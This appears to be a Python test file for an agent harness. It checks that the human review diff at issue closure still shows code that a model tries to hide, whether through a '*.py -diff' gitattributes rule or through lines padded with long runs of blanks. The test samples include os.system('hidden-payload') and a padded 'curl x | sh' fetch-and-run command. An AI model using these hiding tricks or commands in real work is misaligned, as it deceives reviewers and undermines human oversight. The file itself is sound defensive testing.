"""The diff a person reviews at issue_closure shows the code whatever the model's
``.gitattributes`` says: ``*.py -diff`` turned it into "Binary files differ"."""

from __future__ import annotations

import asyncio
from pathlib import Path

from agent.core.stages import closure as closure_stage
from common.schemas.agent_state import Phase
from common.schemas.checkpoint import IssueClosureCheckpoint
from common.schemas.issue_work import IssueWork
from common.schemas.issues import IssueDraft
from common.workspace import checkpoints
from tests.core.runs import make_run, sh_git


async def test_code_marked_binary_by_the_model_is_shown_at_issue_closure(tmp_path: Path) -> None:
    run = make_run(tmp_path)
    project = run.spec.project_dir
    await run.tracker.ensure_milestone("m", "d")
    await run.tracker.create_issues([IssueDraft(title="Add f", summary="s", test_criteria=["t"])])
    (project / "a.py").write_text("def f():\n    return 1\n")
    sh_git(project, "add", "a.py")
    sh_git(project, "commit", "-q", "-m", "feat(#1): f")
    first = sh_git(project, "rev-parse", "HEAD")
    (project / ".gitattributes").write_text("*.py -diff\n")
    (project / "a.py").write_text("import os\n\n\ndef f():\n    os.system('hidden-payload')\n")
    sh_git(project, "add", "a.py", ".gitattributes")
    sh_git(project, "commit", "-q", "-m", "feat(#1): more")
    last = sh_git(project, "rev-parse", "HEAD")
    with run.store.editing() as state:
        state.phase = Phase.ISSUE_CLOSURE
        state.issue = IssueWork(iid=1, commits=[first, last])

    closure = asyncio.create_task(closure_stage.issue_closure(run))
    try:
        for _ in range(200):
            shown = checkpoints.current(run.files)
            if shown is not None or closure.done():
                break
            await asyncio.sleep(0.05)
    finally:
        closure.cancel()
    if closure.done() and not closure.cancelled() and closure.exception() is not None:
        raise AssertionError(closure.exception())

    assert isinstance(shown, IssueClosureCheckpoint)
    assert "os.system('hidden-payload')" in shown.context.diff
    assert "Binary files" not in shown.context.diff


async def test_the_closure_counts_padded_lines_over_the_whole_diff(tmp_path: Path) -> None:
    """A line padded with 300 blanks is flagged by the checkpoint the agent writes, and so
    is one past the cut of the stored diff (the count is over all of it)."""
    run = make_run(tmp_path)
    project = run.spec.project_dir
    await run.tracker.ensure_milestone("m", "d")
    await run.tracker.create_issues([IssueDraft(title="Bump", summary="s", test_criteria=["t"])])
    padded = '__version__ = "0.2.0"' + " " * 300 + '; __import__("os").system("curl x | sh")'
    filler = "".join(f"value_{n} = {n}\n" for n in range(2_000))  # past DIFF_LIMIT
    (project / "core.py").write_text(f"{padded}\n")
    (project / "zz_late.py").write_text(filler + "late = 1" + "\t" * 30 + "; hidden()\n")
    sh_git(project, "add", "core.py", "zz_late.py")
    sh_git(project, "commit", "-q", "-m", "feat(#1): bump")
    last = sh_git(project, "rev-parse", "HEAD")
    with run.store.editing() as state:
        state.phase = Phase.ISSUE_CLOSURE
        state.issue = IssueWork(iid=1, commits=[last])

    closure = asyncio.create_task(closure_stage.issue_closure(run))
    try:
        for _ in range(200):
            shown = checkpoints.current(run.files)
            if shown is not None or closure.done():
                break
            await asyncio.sleep(0.05)
    finally:
        closure.cancel()
    if closure.done() and not closure.cancelled() and closure.exception() is not None:
        raise AssertionError(closure.exception())

    assert isinstance(shown, IssueClosureCheckpoint)
    assert shown.context.diff_cut_at is not None and "hidden()" not in shown.context.diff
    flags = shown.context.diff_long_lines
    assert flags is not None and flags.total == 2
    assert [(item.path, item.line, item.blank_run, item.run_of) for item in flags.lines] == [
        ("core.py", 1, 300, "spaces"),
        ("zz_late.py", 2_001, 30, "tabs"),
    ]
